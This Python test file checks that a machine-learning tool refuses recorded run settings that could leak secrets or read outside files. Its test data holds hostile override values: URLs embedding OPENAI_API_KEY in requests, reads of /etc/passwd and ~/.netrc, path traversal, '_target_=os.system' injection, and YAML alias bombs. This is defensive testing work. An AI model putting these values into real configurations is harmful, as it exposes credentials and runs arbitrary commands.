"""The record of a downloaded run sends nothing and reads no file elsewhere; what it asks for is named."""

import json
import re
import shlex
import socket

import pytest
import yaml
from workbench import CONF, foredraft, make_target, write_prompts

from decode.errors import UserError
from distill.cli.checkpoint_defaults import with_run_settings
from distill.cli.main import rewrite
from distill.config import own_runs, recorded
from distill.config.compose import compose

KEY = "sk-a-secret-of-the-environment"


@pytest.fixture
def host(monkeypatch):
    """Address of a server, which nobody may connect to."""
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield f"127.0.0.1:{server.getsockname()[1]}"
        with pytest.raises(BlockingIOError):
            server.accept()


@pytest.fixture
def run(tmp_path, monkeypatch):
    """A run's folder as one downloads it: `run(lines)` writes its record and is the checkpoint."""
    folder = tmp_path / "downloaded"
    (folder / ".hydra").mkdir(parents=True)
    checkpoint = folder / "checkpoints" / "last"
    checkpoint.mkdir(parents=True)
    target = {"name": "data/pocket", "revision": None, "fingerprint": "x", "tokenizer": ""}
    config = {"format": 1, "drafter": "eagle", "settings": {}, "target": target}
    (checkpoint / "config.json").write_text(json.dumps(config))
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")

    def write(*lines):
        (folder / ".hydra" / "overrides.yaml").write_text(yaml.safe_dump(list(lines)))
        return checkpoint

    return write


def refused(argv, said):
    with pytest.raises(UserError, match=said) as error:
        with_run_settings(argv, CONF, "score_checkpoint")
    return str(error.value)


# `HOST` is the server's address.
LEAKS = [
    "prompts.files=['http://HOST/${ oc.env:OPENAI_API_KEY}.jsonl']",
    "prompts.files=[[http://HOST/${oc.env:OPENAI_API_KEY}]]",
    "prompts.files='http://HOST/${oc.decode:${oc.env:OPENAI_API_KEY}}'",
    'prompts.files="http://HOST/\\${oc.env:OPENAI_API_KEY}"',
    "prompts.files=['http://HOST/x.jsonl']",
    "prompts.dataset='me/${ oc.env:OPENAI_API_KEY}'",
    "prompts.dataset=me/data",
    "prompts.name='${${prompts.split}.env:OPENAI_API_KEY}'",
    "prompts.columns={prompt: '${ oc.env:OPENAI_API_KEY}'}",
    "prompts.template_options={a: [{b: '${oc.env:OPENAI_API_KEY}'}]}",
    "prompts.template_options.a=${oc.env:OPENAI_API_KEY}",
    "prompts.sources=[{dataset: json, files: 'http://HOST/x.jsonl'}]",
    "prompts.sources=[{path: 'a.jsonl', name: '${ oc.env:OPENAI_API_KEY}'}]",
    "prompts.sources=[[{path: /etc/passwd}]]",
    "prompts.path='http://HOST/x.jsonl'",
    "prompts.path=/etc/passwd",
    "prompts.path=~/.netrc",
    "prompts.path=../private.jsonl",
    "prompts.path=a/../../private.jsonl",
    "prompts.path=link.jsonl",
    "prompts.heldout='${oc.env:HOME}/x.jsonl'",
    "prompts.path=a.jsonl,/etc/passwd",
    "prompts.path=choice(a.jsonl,b.jsonl)",
    "prompts.path=glob(*)",
    "prompts=../../etc/x",
    "prompts='${oc.env:OPENAI_API_KEY}'",
    "++prompts.files=['http://HOST/x.jsonl']",
    "+prompts.dataset=me/data",
    "~prompts.path",
    "prompts@target=jsonl",
    "prompts._target_=os.system",
    "prompts.sources=[{_target_: os.system}]",
    "prompts.path={_target_: os.system}",
    "prompts.template='x\x1b[2J'",
    "prompts.path='x",
]


@pytest.mark.parametrize("line", LEAKS)
def test_requests_and_files_of_a_record_are_asked_for(run, host, line, tmp_path):
    (tmp_path / "private.jsonl").write_text("")
    (tmp_path / "elsewhere" / "link.jsonl").symlink_to(tmp_path / "private.jsonl")
    checkpoint = run("drafter=eagle", line.replace("HOST", host))
    done = foredraft("score", f"checkpoint={checkpoint}")
    done.refused(str(tmp_path / "downloaded" / ".hydra" / "overrides.yaml"))
    assert re.search("give [\"']?prompts", done.err)
    assert KEY not in done.out + done.err
    assert done.err.rstrip("\n").isprintable()


def test_generate_takes_only_the_template_of_a_record(run, host):
    line = f"prompts.files=['http://{host}/${{ oc.env:OPENAI_API_KEY}}.jsonl']"
    argv = [f"checkpoint={run(line, 'prompts.template=none', 'prompts.path=/etc/passwd')}"]
    assert with_run_settings(argv, CONF, "generate") == ["prompts.template=none", *argv]


def test_the_question_holds_options_that_answer_it(run, tmp_path):
    """Given as they are printed, they are taken: all of the run's settings, no fewer."""
    file = write_prompts(tmp_path / "my prompts.jsonl", 3)
    settings = ["prompts=jsonl", f"prompts.path='{file}'", "prompts.columns={prompt: question}"]
    argv = [f"checkpoint={run(*settings, 'prompts.limit=7')}"]
    given = shlex.split(refused(argv, "a file outside of the run's folder").partition("give ")[2])
    found = rewrite(with_run_settings([*given, *argv], CONF, "score_checkpoint"), CONF)
    expected = compose([*settings, "prompts.limit=7", "checkpoint=x"], CONF, "score_checkpoint").prompts
    assert compose(found, CONF, "score_checkpoint").prompts == expected


def test_a_request_that_was_given_here_before_is_taken(run, tmp_path, monkeypatch):
    """As often as it is asked for, of any copy of the record, but not with another override."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    given = ["drafter=eagle", "prompts=jsonl", f"prompts.path='{tmp_path}/p.jsonl'", "prompts.dataset='a/b'"]
    argv = [f"checkpoint={run(*given)}"]
    own_runs.remember(given)
    own_runs.remember(given)
    assert with_run_settings(argv, CONF, "score_checkpoint") == [*given[1:], *argv]
    (noted,) = (tmp_path / "state").rglob("runs")
    assert (len(noted.read_text().splitlines()), noted.stat().st_mode & 0o777) == (1, 0o600)
    run(*given, "prompts.limit=1")
    refused(argv, "not taken from a record")
    own_runs.remember(secret := [*given, "prompts.name='${oc.env:OPENAI_API_KEY}'"])
    run(*secret)
    refused(argv, r"prompts\.name=.* is not taken from a record")
    run(*given)
    noted.chmod(0o666)
    refused(argv, "not taken from a record")


def test_a_state_folder_that_cannot_be_written_stops_no_run(tmp_path, monkeypatch):
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
    own_runs.remember(["a=1"])
    assert not own_runs.are_own(["a=1"])


def test_the_question_leaves_out_what_reads_the_environment(run):
    argv = [f"checkpoint={run('prompts=jsonl', 'prompts.path=${oc.env:DATA}/x.jsonl')}"]
    refused(argv, r"give prompts=jsonl prompts\.path=\.\.\.$")


@pytest.mark.parametrize(
    "record", ["- [a, b]", "{a: b}", "- prompts.path: x", "[", "\x00", "- 'x", "- a\n- 1"]
)
def test_a_damaged_record_is_one_line(run, record, tmp_path):
    checkpoint = run()
    (tmp_path / "downloaded" / ".hydra" / "overrides.yaml").write_text(record)
    refused([f"checkpoint={checkpoint}"], "no record of a run's options")


@pytest.mark.parametrize(
    "experiment", ["../../../evil/x", "/tmp/x", "${oc.env:HOME}", "nothing", "a,b", "[a]"]
)
def test_an_experiment_is_one_of_ours(run, experiment, tmp_path):
    (tmp_path / "evil").mkdir()
    (tmp_path / "evil" / "x.yaml").write_text("prompts: {files: ['http://127.0.0.1:9/x']}")
    argv = [f"checkpoint={run(f'experiment={experiment}')}"]
    assert with_run_settings(argv, CONF, "score_checkpoint") == argv


def test_files_of_the_run_and_relative_paths_are_taken(run, tmp_path):
    inside = write_prompts(tmp_path / "downloaded" / "p.jsonl", 3)
    settings = [f"prompts.path='{inside}'", "prompts.heldout='data/prompts/heldout.jsonl'", "prompts.limit=2"]
    settings += ["prompts.sources=[{path: 'a.jsonl'}]", "prompts.template_options={a: true, b: 'é\\''}"]
    argv = [f"checkpoint={run(*settings)}"]
    found = with_run_settings(argv, CONF, "score_checkpoint")
    expected = compose(settings + argv, CONF, "score_checkpoint").prompts
    assert compose(found, CONF, "score_checkpoint").prompts == expected


@pytest.mark.parametrize(
    "said", [[], {"held_out": 1}, {"held_out": 1, "tokens": "${oc.env:HOME}"}, {"held_out": 1, "tokens": -1}]
)
def test_a_limit_of_a_record_is_a_number(run, said, tmp_path):
    checkpoint = run()
    (tmp_path / "downloaded" / "prompts.json").write_text(json.dumps({"too_long": said}))
    argv = [f"checkpoint={checkpoint}"]
    if not said:
        assert with_run_settings(argv, CONF, "score_checkpoint") == argv
        return
    refused(argv, r"give prompts\.max_tokens")


def test_a_stores_target_is_a_name_too(tmp_path, host):
    make_target(tmp_path / "target")
    for name, revision in (("me/${ oc.env:OPENAI_API_KEY}", None), ("me/x", ["a"]), ("a\n", None)):
        origin = {"target": name, "revision": revision}
        (tmp_path / "manifest.json").write_text(json.dumps({"origin": origin}))
        with pytest.raises(UserError, match="no name of a target"):
            with_run_settings([f"store={tmp_path}"], CONF, "inspect_data")


def test_a_downloaded_configuration_shows_no_environment(tmp_path, monkeypatch):
    """However an interpolation is spelled; aliases, by which a few lines become gigabytes, are refused."""
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    (tmp_path / ".hydra").mkdir()
    file = tmp_path / ".hydra" / "config.yaml"
    (tmp_path / ".hydra" / "overrides.yaml").write_text("- a=1\n")
    texts = {
        "plain": "${oc.env:OPENAI_API_KEY}",
        "spaced": "${ oc.env:OPENAI_API_KEY}",
        "resolver": "${${b}:OPENAI_API_KEY}",
        "part": "${oc.${d}:OPENAI_API_KEY}",
        "link": "${plain}",
    }
    values = texts | {"b": "oc.env", "d": "env", "size": 1}
    file.write_text(json.dumps(values))
    shown, _ = recorded.readable_config(tmp_path)
    assert KEY not in shown + str(recorded.shown_settings(tmp_path))
    assert "size: 1" in shown
    file.write_text("a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n")
    assert recorded.readable_config(tmp_path) == ("", [])
    assert recorded.settings(tmp_path) is None
    for text in ("a: &a 1\nb: *a", "a: [", "[" * 5000):
        file.write_text(text)
        with pytest.raises(UserError, match="damaged"):
            recorded.read_config(tmp_path)
